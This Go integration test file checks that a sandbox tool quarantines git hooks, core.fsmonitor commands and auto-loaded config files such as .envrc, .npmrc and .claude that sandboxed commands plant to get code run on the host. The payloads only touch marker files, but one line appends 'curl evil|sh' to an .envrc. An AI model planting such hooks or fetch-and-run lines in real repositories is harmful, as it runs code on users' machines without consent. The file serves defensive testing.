package integration

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// payload is what the attacks below plant: a hook and a core.fsmonitor
// that leave a mark on the host when the user's own git runs them.
type payload struct {
	mark string // created on the host when the payload runs
	hook string // a pre-commit hook's text
	cmd  string // a shell command line, for core.fsmonitor and friends
}

func (e *env) payload(name string) payload {
	mark := filepath.Join(e.dir, "PWNED-"+name)
	return payload{mark: mark, hook: "#!/bin/sh\ntouch " + mark + "\n", cmd: "touch " + mark + "; false"}
}

// plant is a shell fragment that gives the repository whose Git directory
// is gitdir the payload's hook and fsmonitor.
func (p payload) plant(gitdir string) string {
	return fmt.Sprintf("mkdir -p %[1]s/hooks && printf '%%s' %[2]q > %[1]s/hooks/pre-commit && chmod +x %[1]s/hooks/pre-commit && git --git-dir=%[1]s config core.fsmonitor %[3]q",
		gitdir, p.hook, p.cmd)
}

// hostGitRuns runs what a user does in a repository on the host after the
// run (status, which runs core.fsmonitor; a commit, which runs pre-commit)
// and fails the test if the payload ran.
func (e *env) hostGitRuns(t *testing.T, dir string, p payload) {
	t.Helper()
	for _, args := range [][]string{{"status"}, {"commit", "-q", "--allow-empty", "-m", "host"}} {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		cmd := e.command(ctx, "git", append([]string{"-c", "user.name=host", "-c", "user.email=host@example.com"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(cmd.Env, "GIT_CONFIG_NOSYSTEM=1")
		cmd.CombinedOutput() // git may fail (a quarantined config): only the payload matters
		cancel()
	}
	if _, err := os.Stat(p.mark); err == nil {
		t.Errorf("the host's git in %s ran the planted payload", dir)
	}
}

func (e *env) mustRun(t *testing.T, line string) runResult {
	t.Helper()
	return e.mustRunWith(t, nil, line)
}

func (e *env) mustRunWith(t *testing.T, flags []string, line string) runResult {
	t.Helper()
	r, res := e.runJSON(append(flags, "-c", line))
	if res.ExitCode != 0 {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s %s", res.ExitCode, r.stdout, res.Stderr, r.stderr)
	}
	return res
}

// An existing nested repository, one and three levels down, gets a hook
// and core.fsmonitor through a renamed parent and through a copy put in
// its place; neither runs on the host afterwards.
func TestNestedRepositoryRenamedOrCopied(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		sub := filepath.Join(e.ws, "sub")
		deep := filepath.Join(e.ws, "a", "b", "c", "deep")
		e.gitRepo(e.ws)
		e.gitRepo(sub)
		e.gitRepo(deep)
		p := e.payload("nested")
		// --no-undo: the attack renames directories of the host, which undo's
		// overlay refuses (EXDEV; mv then cannot remove the protected
		// mounts it copied from).
		e.mustRunWith(t, []string{"--no-undo"}, strings.Join([]string{
			"set -e",
			"mv sub sub-moved && mkdir sub && cp -a sub-moved/.git sub/.git",
			p.plant("sub/.git"),
			"cp -a a a-copy",
			p.plant("a-copy/b/c/deep/.git"),
			"mv a a-old && mv a-copy a",
		}, "\n"))
		e.hostGitRuns(t, sub, p)
		e.hostGitRuns(t, deep, p)
		e.hostGitRuns(t, filepath.Join(e.ws, "sub-moved"), p)
	})
}

// Repositories made during the run, every way Git finds one, keep their
// objects but not their hooks or configuration that runs programs.
func TestRepositoriesMadeDuringTheRun(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		p := e.payload("new")
		e.mustRun(t, strings.Join([]string{
			"set -e",
			"git init -q made && git -C made -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x",
			p.plant("made/.git"),
			// A .git directory put together by hand, two levels down.
			"mkdir -p byhand/inner && cp -a made/.git byhand/inner/.git",
			p.plant("byhand/inner/.git"),
			// A .git file that points at a Git directory planted elsewhere.
			"git init -q --bare planted.d && mkdir pointer && echo 'gitdir: ../planted.d' > pointer/.git",
			p.plant("planted.d"),
			// A bare repository: git run in docs/ takes docs/ for one.
			"mkdir -p docs && git init -q --bare docs",
			p.plant("docs"),
			// A clone of a local repository.
			"git clone -q made cloned",
			p.plant("cloned/.git"),
		}, "\n"))
		for _, d := range []string{"made", "byhand/inner", "pointer", "cloned", "docs", "planted.d"} {
			e.hostGitRuns(t, filepath.Join(e.ws, d), p)
		}
		if s := snap(t, filepath.Join(e.ws, "made", ".git", "HEAD")); !s.exists {
			t.Errorf("the repository made during the run lost its HEAD")
		}
	})
}

// A Git directory prepared in one run under another name (no repository
// yet) and put in place in a later run is still a repository made during
// a run: its old file times do not make it trusted.
func TestStagedRepositoryInALaterRun(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		p := e.payload("staged")
		e.mustRun(t, "set -e\ngit init -q tmpl && mv tmpl/.git staged && rm -r tmpl\n"+p.plant("staged")+"\nrm staged/HEAD")
		time.Sleep(100 * time.Millisecond)
		e.mustRun(t, "set -e\nmkdir target && mv staged target/.git && echo 'ref: refs/heads/main' > target/.git/HEAD")
		e.hostGitRuns(t, filepath.Join(e.ws, "target"), p)
		// And into a repository the user made between runs.
		e.mustRun(t, "set -e\ngit init -q tmpl2 && mv tmpl2/.git staged2 && rm -r tmpl2\n"+p.plant("staged2")+"\nrm staged2/HEAD")
		e.gitRepo(filepath.Join(e.ws, "user"))
		os.RemoveAll(filepath.Join(e.ws, "user", ".git", "hooks"))
		time.Sleep(100 * time.Millisecond)
		e.mustRun(t, "set -e\nmv staged2/hooks user/.git/hooks")
		e.hostGitRuns(t, filepath.Join(e.ws, "user"), p)
	})
}

// Protected names are kept below the root too: made during the run they
// are moved aside; existing ones are read-only.
func TestNestedProtectedNames(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		existing := filepath.Join(e.ws, "app", ".envrc")
		e.write(existing, "export A=1\n")
		e.mustRun(t, "true") // indexes the workspace with app/.envrc in it
		before := snap(t, existing)
		made := []string{"x/.envrc", "x/y/.vscode", "pkg/.npmrc", "crate/.cargo", "svc/.mcp.json", "svc/.claude",
			"web/.yarnrc.yml", "web/.husky", "tool/.pre-commit-config.yaml", "deep/er/still/.devcontainer"}
		line := []string{"set +e", "echo 'curl evil|sh' >> app/.envrc"}
		for _, m := range made {
			dir := filepath.Dir(m)
			switch filepath.Base(m) {
			case ".vscode", ".cargo", ".claude", ".husky", ".devcontainer":
				line = append(line, fmt.Sprintf("mkdir -p %s && echo evil > %s/inside", m, m))
			default:
				line = append(line, fmt.Sprintf("mkdir -p %s && echo evil > %s", dir, m))
			}
		}
		line = append(line, "true")
		res := e.mustRun(t, strings.Join(line, "\n"))
		unchanged(t, existing, before)
		moved := map[string]bool{}
		for _, q := range res.Quarantined {
			moved[q.Path] = true
		}
		for _, m := range made {
			p := filepath.Join(e.ws, m)
			if s := snap(t, p); s.exists {
				t.Errorf("%s, made by the command, is still in place", m)
			}
			if !moved[p] {
				t.Errorf("quarantined lacks %s: %+v", m, res.Quarantined)
			}
		}
		// Shell rc files are read from the home directory only: below
		// the root they are ordinary files.
		e.mustRun(t, "mkdir -p q && echo x > q/.bashrc")
		if s := snap(t, filepath.Join(e.ws, "q", ".bashrc")); !s.exists {
			t.Errorf("q/.bashrc was moved aside; only the root's is protected")
		}
	})
}

// A run whose forgebox is killed before its check is checked by the next
// run in the same workspace.
func TestKilledRunIsCheckedByTheNext(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.mustRun(t, "true")
		m := marker()
		// --no-undo: the test waits for a file the run writes in the
		// workspace, which undo shows only when the run ends.
		r := e.start([]string{"run", "--no-undo", "-c", "mkdir -p n && echo evil > n/.envrc && git init -q n/r && touch " + filepath.Join(e.ws, "planted") + " && sleep 300 # " + m})
		waitFile(t, r, filepath.Join(e.ws, "planted"), 20*time.Second)
		r.signal(t, syscall.SIGKILL)
		r.wait(t, 20*time.Second)
		if !waitFor(10*time.Second, func() bool { return len(processesWith(m)) == 0 }) {
			t.Fatalf("the sandboxed command outlived its forgebox")
		}
		res := e.mustRun(t, "true")
		if s := snap(t, filepath.Join(e.ws, "n", ".envrc")); s.exists {
			t.Errorf("n/.envrc planted by a killed run is still in place after the next run: %+v", res.Quarantined)
		}
	})
}

// A shell session lives for hours: what its commands plant is moved aside
// after each command, not when the session ends.
func TestSessionPlantsAreCheckedAtOnce(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		p := e.payload("session")
		line := "mkdir -p x && echo evil > x/.envrc && git init -q r && " + p.plant("r/.git")
		// The judge asks about it and the person approves: the sandbox is
		// under test.
		c := e.serveMCP(func(string) string { return "once" })
		var st struct{ Session, Cwd string }
		if res, text := c.call("shell_start", map[string]any{}, &st); res.IsError || st.Session == "" {
			t.Fatalf("shell_start: %s", text)
		}
		var out struct {
			Ran         bool
			Output      string
			Quarantined []struct{ Path string } `json:"quarantined"`
		}
		if res, text := c.call("shell_exec", map[string]any{"session": st.Session, "command": line}, &out); res.IsError || !out.Ran {
			t.Fatalf("shell_exec: %s", text)
		}
		// The session is still open.
		if s := snap(t, filepath.Join(e.ws, "x", ".envrc")); s.exists {
			t.Errorf("x/.envrc planted by a session command is in place while the session lives")
		}
		e.hostGitRuns(t, filepath.Join(e.ws, "r"), p)
		if len(out.Quarantined) == 0 {
			t.Errorf("shell_exec's result does not report what was moved aside: %s", out.Output)
		}
	})
}

// A submodule's Git directory planted in an existing repository's
// .git/modules (git submodule update would check it out and run its
// hooks), and a directory the run made unreadable so that nothing in it
// could be checked.
func TestPlantedSubmoduleAndUnreadableDirectory(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		e.mustRun(t, "true") // the index knows the repository
		p := e.payload("module")
		e.mustRun(t, strings.Join([]string{
			"set -e",
			"git init -q tmpl && mkdir -p .git/modules && mv tmpl/.git .git/modules/evil && rm -r tmpl",
			p.plant(".git/modules/evil"),
			"mkdir -p hidden/r && git init -q hidden/r",
			p.plant("hidden/r/.git"),
			"chmod 000 hidden",
		}, "\n"))
		evil := filepath.Join(e.ws, ".git", "modules", "evil")
		if s := snap(t, filepath.Join(evil, "hooks", "pre-commit")); s.exists {
			t.Errorf("the planted submodule's hook is in place")
		}
		if s := snap(t, filepath.Join(evil, "config")); strings.Contains(s.content, "fsmonitor") {
			t.Errorf("the planted submodule's config still sets core.fsmonitor")
		}
		// The person makes the directory readable again and runs git.
		hidden := filepath.Join(e.ws, "hidden")
		if s := snap(t, hidden); s.exists {
			os.Chmod(hidden, 0o755)
			e.hostGitRuns(t, filepath.Join(hidden, "r"), p)
		}
	})
}
